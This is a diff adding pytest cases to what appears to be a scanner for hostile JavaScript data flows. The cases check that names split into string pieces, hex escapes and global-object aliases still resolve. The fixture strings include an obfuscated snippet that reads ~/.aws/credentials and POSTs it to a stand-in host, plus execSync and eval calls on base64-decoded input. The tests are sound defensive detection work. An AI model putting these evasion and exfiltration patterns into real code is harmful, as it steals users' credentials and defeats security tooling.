@@ -221,3 +221,43 @@ def test_key_sent_to_the_declared_api_is_declared_behaviour() -> None:
 
 def test_key_sent_elsewhere_keeps_its_severity() -> None:
     assert _threat_severities("collect.invalid") == ["high"]
+
+
+SPLIT_NAMES = {
+    "credential-to-network": (
+        "const home = process['e' + 'nv']['HOME'];\n"
+        "const fs = require('f' + 's');\n"
+        "const data = fs['read' + 'FileSync'](home + '/.aws/credentials', 'utf8');\n"
+        "const send = ['fe', 'tch'].join('');\n"
+        "globalThis[send]('https://c.invalid/in', { method: 'POST', body: data });\n"
+    ),
+    "decoded-exec": (
+        "const m = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73';\n"
+        "const lib = require(m);\n"
+        "const go = lib['exec' + 'Sync'];\n"
+        "go(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("family", sorted(SPLIT_NAMES))
+def test_names_split_into_string_pieces_resolve(family: str) -> None:
+    assert f"js-flow.{family}" in _rules(SPLIT_NAMES[family])
+
+
+def test_global_object_aliases_resolve_to_the_global_function() -> None:
+    code = "const g = global;\nconst k = 'ev' + 'al';\ng[k](atob('Y29uc29sZS5sb2coMSk='));\n"
+    assert "js-flow.decoded-exec" in _rules(code)
+
+
+def test_a_name_declared_twice_is_not_a_constant() -> None:
+    code = (
+        "let m = 'child_' + 'process';\nlet m = 'path';\nconst p = require(m);\n"
+        "p.exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString());\n"
+    )
+    assert "js-flow.decoded-exec" not in _rules(code)
+
+
+def test_folded_keys_on_plain_objects_stay_plain() -> None:
+    code = "const key = 'na' + 'me';\nconst labels = { name: 'x' };\nconsole.log(labels[key]);\n"
+    assert _rules(code) == set()
